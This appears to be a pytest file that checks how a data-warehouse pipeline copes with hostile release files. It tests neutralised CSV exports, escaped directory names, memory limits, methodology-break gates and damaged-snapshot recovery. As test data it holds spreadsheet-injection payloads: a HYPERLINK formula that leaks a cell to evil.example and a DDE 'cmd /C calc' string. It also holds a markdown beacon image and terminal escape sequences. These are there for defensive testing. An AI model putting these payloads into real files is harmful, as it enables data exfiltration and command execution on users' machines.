"""Hostile inputs (issue 13): nothing a file dropped into `releases/` does reaches an output, crashes
other editions or stalls the warehouse. The malformed files one by one are in tests/faults/ (refused at
the gate, named); here: outputs, directory names, memory, breaks, causes, a damaged warehouse."""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import dagster as dg
import pytest

from orchestration.releases.bundle import discover_editions, open_bundle
from orchestration.releases.loader import load_edition
from orchestration.settings import PROJECT_ROOT
from orchestration.warehouse.gate import gate_edition
from tests.helpers import BY_COUNTRY, Workspace, replace_in_file, run_cli

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A2,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
BEACON = "![beacon](https://evil.example/b.png)"


@pytest.mark.slow
def test_free_text_reaches_csv_exports_neutralised_and_dagster_only_as_table_text(
    workspace: Workspace, capsys
):
    manifest = workspace.releases / "2025" / "manifest.yml"
    # A figure id and provenance sources written to be evaluated by a spreadsheet or rendered as markdown.
    replace_in_file(manifest, 'figure_id: "4.3.8"', "figure_id: '" + FORMULAS[0].replace("'", "''") + "'")
    provenance = workspace.releases / "2025" / "PROVENANCE.csv"
    rows = list(csv.reader(provenance.open(encoding="utf-8", newline="")))
    for row in rows[1:4]:
        row[4], row[5] = FORMULAS[1], FORMULAS[2]
    rows[4][4] = BEACON
    with provenance.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows(rows)

    code, out = run_cli(workspace, "build", capsys=capsys)
    assert code == 0, out
    exported = (workspace.data_dir / "exports" / "editions" / "2025" / "fct_indicator_values.csv").read_text(
        "utf-8"
    )
    cells = [c for row in csv.reader(exported.splitlines()) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], "a cell a spreadsheet evaluates"
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells and "'" + FORMULAS[2] in cells
    # The warehouse and the Parquet export keep the text as published (typed data, for tools that read it).
    assert workspace.query(
        "select count(*) from marts.fct_indicator_values where figure_id = ?", [FORMULAS[0]]
    ) == [(12,)]
    # In Dagster, the figure id and the file names are table cells: no markdown link or image from data.
    instance = dg.DagsterInstance.from_config(str(workspace.dagster_home))
    record = instance.fetch_materializations(dg.AssetKey(["raw", "indicator_values"]), limit=10).records
    for metadata in (r.asset_materialization.metadata for r in record):
        for key, value in metadata.items():
            if isinstance(value, dg.MarkdownMetadataValue):
                assert "evil.example" not in value.value, key
    files = next(
        r.asset_materialization.metadata["files"]
        for r in record
        if r.asset_materialization.partition == "2025"
    )
    assert isinstance(files, dg.TableMetadataValue)
    assert FORMULAS[0] in {row.data["figure"] for row in files.records}


def test_odd_edition_directories_are_reported_and_skipped_never_mistaken_or_crashing(
    gated_workspace: Workspace, capsys
):
    releases = gated_workspace.releases
    shutil.copytree(releases / "2025", releases / "\u0662\u0660\u0662\u0665")  # Arabic-Indic "2025"
    replace_in_file(
        releases / "\u0662\u0660\u0662\u0665" / "PUBLIC DATA_ 2025 AI INDEX REPORT" / BY_COUNTRY,
        "China,9.29",
        "China,9.61",
    )
    (releases / "2026\u00b2").mkdir()  # "2026²"
    (releases / "2025\x1b[2K").mkdir()
    assert sorted(discover_editions(releases)) == [2022, 2023, 2024, 2025, 2026]
    # validate reports what it skipped before it checks anything; the oldest edition is checked alone
    # (2025 would check the four editions up to it: three more gate runs that prove nothing here).
    code, out = run_cli(gated_workspace, "validate", "--edition", "2022", capsys=capsys)
    assert code == 0, out
    assert "skipped" in out and "\\u0662\\u0660\\u0662\\u0665" in out and "2026\\xb2" in out
    assert "\x1b" not in out and "2025\\x1b[2K" in out  # the name shown escaped, never as a sequence
    # 2025 is the real 2025, the one every command builds: China's value is the published 9.29, not the
    # impostor's 9.61 (read by the loader alone: the release checks have nothing to add here).
    frame = load_edition(open_bundle(discover_editions(releases)[2025])).frame
    china = frame[(frame["source_file"] == BY_COUNTRY) & (frame["place_as_written"] == "China")]
    assert china["value"].tolist() == [9.29]


_MEMORY_PROBE = textwrap.dedent(
    """
    import json, sys
    from pathlib import Path
    from orchestration.errors import BundleError, EditionRejected
    from orchestration.releases.bundle import open_bundle
    from orchestration.releases.loader import load_edition
    try:
        load_edition(open_bundle(Path(sys.argv[1])))
        outcome = "loaded"
    except (BundleError, EditionRejected) as exc:
        outcome = str(getattr(exc, "problems", [exc]))
    # VmHWM: the peak of this interpreter's own address space. ru_maxrss would also count the memory
    # of the (large) test worker it was forked from: Linux keeps that high-water mark across exec.
    status = Path("/proc/self/status").read_text()
    peak = int(next(line.split()[1] for line in status.splitlines() if line.startswith("VmHWM:")))
    print(json.dumps({"outcome": outcome, "peak_kib": peak}))
    """
)


def _load_in_child(edition_dir: Path) -> dict:
    result = subprocess.run(
        [sys.executable, "-c", _MEMORY_PROBE, str(edition_dir)], cwd=PROJECT_ROOT, capture_output=True, text=True,
        timeout=600, check=True,
    )  # fmt: skip
    return json.loads(result.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize("shape", ["three_million_rows", "two_million_columns"])
def test_a_file_of_millions_of_rows_or_columns_is_refused_within_a_gibibyte(tmp_path, shape):
    edition_dir = tmp_path / "2025"
    shutil.copytree(PROJECT_ROOT / "data" / "releases" / "2025", edition_dir)
    path = edition_dir / "PUBLIC DATA_ 2025 AI INDEX REPORT" / BY_COUNTRY
    header = "Geographic area,Total investment (in billions of U.S. dollars)\n"
    if shape == "three_million_rows":  # ~30 MB of short rows
        path.write_text(header + "A,1.0\n" * 3_000_000, encoding="utf-8")
    else:  # one line of two million columns
        path.write_text(
            ",".join(["c"] * 2_000_000) + "\n" + ",".join(["1"] * 2_000_000) + "\n", encoding="utf-8"
        )
    assert path.stat().st_size > 7_000_000
    child = _load_in_child(edition_dir)
    assert "fig_4.3.8.csv" in child["outcome"] and "limit" in child["outcome"], child
    assert child["peak_kib"] < 1024 * 1024, f"peak RSS {child['peak_kib'] / 1024:.0f} MiB"


def test_breaks_declared_to_replace_the_figures_are_refused_unless_an_operator_accepts_them(
    gated_workspace: Workspace,
):
    releases = gated_workspace.releases
    shutil.copytree(releases / "2026", releases / "2027")
    manifest = releases / "2027" / "manifest.yml"
    text = manifest.read_text(encoding="utf-8").replace("edition: 2026", "edition: 2027")
    # Every metric declared broken, and US 2025 private investment 285.88 -> 1.0.
    text = text.replace("{methodology_break: false}", '{methodology_break: true, reason: "new method"}')
    manifest.write_text(text, encoding="utf-8")
    replace_in_file(releases / "2027" / "PUBLIC DATA_ 2026 AI INDEX REPORT" / "4. Economy/Data/fig_4.2.8.csv",
                    "United States,285.88", "United States,1.0")  # fmt: skip
    report = gate_edition(releases / "2027", gated_workspace.settings(), write=False)
    assert not report.ok
    problems = "\n".join(report.problems)
    assert "[breaks] breaks declared on" in problems and "above the 50% bound" in problems
    assert "private_investment_usd_bn: USA 2025 moves from 285.88" in problems
    assert "ai-index build --accept-breaks 2027" in problems
    accepted = gate_edition(releases / "2027", gated_workspace.settings(), write=False, accept_breaks=True)
    assert accepted.ok


def test_an_unexpected_error_is_reported_with_its_cause_never_as_a_rejection(
    workspace: Workspace, monkeypatch, capsys
):
    import errno

    import orchestration.warehouse.gate as gate

    def full_disk(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(gate, "replace_edition", full_disk)
    code, out = run_cli(workspace, "build", "--force", "--edition", "2025", capsys=capsys)
    assert code != 0
    assert "No space left on device" in out and "raw_editions" in out
    assert "REJECTED" not in out


def test_a_rollback_after_a_failed_commit_does_not_hide_the_cause():
    import duckdb

    from orchestration.warehouse.connection import transaction

    class FullDisk:
        def execute(self, statement):
            if statement == "commit":
                raise duckdb.IOException("could not write: No space left on device")
            if statement == "rollback":
                raise duckdb.TransactionException("cannot rollback - no transaction is active")

    with pytest.raises(duckdb.IOException, match="No space left on device"):
        with transaction(FullDisk()):
            pass


@pytest.mark.parametrize("damage", ["truncate", "zero"])
def test_a_damaged_snapshot_is_found_by_status_and_a_build_publishes_it_again(
    workspace: Workspace, capsys, damage
):
    before = workspace.mart_checksums()
    size = workspace.warehouse.stat().st_size
    with workspace.warehouse.open("r+b") as f:
        if damage == "truncate":
            f.truncate(size // 2)
        else:
            f.seek(size // 3)
            f.write(b"\0" * (size // 3))
    code, out = run_cli(workspace, "status", capsys=capsys)
    assert code == 4 and "Traceback" not in out, out
    assert "cannot be read" in out and "ai-index rollback" in out and "ai-index build" in out
    code, out = run_cli(workspace, "build", capsys=capsys)
    assert code == 0 and "published again" in out, out
    assert workspace.mart_checksums() == before
    assert run_cli(workspace, "status", capsys=capsys)[0] == 0


def test_malformed_directories_and_files_beside_valid_editions_leave_them_building(
    workspace: Workspace, capsys
):
    from orchestration.defs.resources import WarehouseResource
    from orchestration.defs.sensors import edition_release_sensor

    releases = workspace.releases
    (releases / "2026\u00b2").mkdir()
    (releases / "notes.txt").write_text("not an edition", encoding="utf-8")
    shutil.copytree(releases / "2026", releases / "2027")
    (releases / "2027" / "manifest.yml").write_text("edition: [2027\n", encoding="utf-8")  # broken YAML
    os.mkfifo(releases / "2028")  # a FIFO where an edition directory would be
    code, out = run_cli(workspace, "build", "--force", "--edition", "2025", capsys=capsys)
    assert code == 0, out
    assert "skipped" in out and "2028: not a directory" in out
    context = dg.build_sensor_context(
        instance=dg.DagsterInstance.ephemeral(),
        resources={"warehouse": WarehouseResource.from_settings(workspace.settings())},
    )
    result = edition_release_sensor(
        context
    )  # the tick runs: the broken 2027 gets a run, to be refused by name
    assert [r.partition_key for r in result.run_requests] == ["2027"]
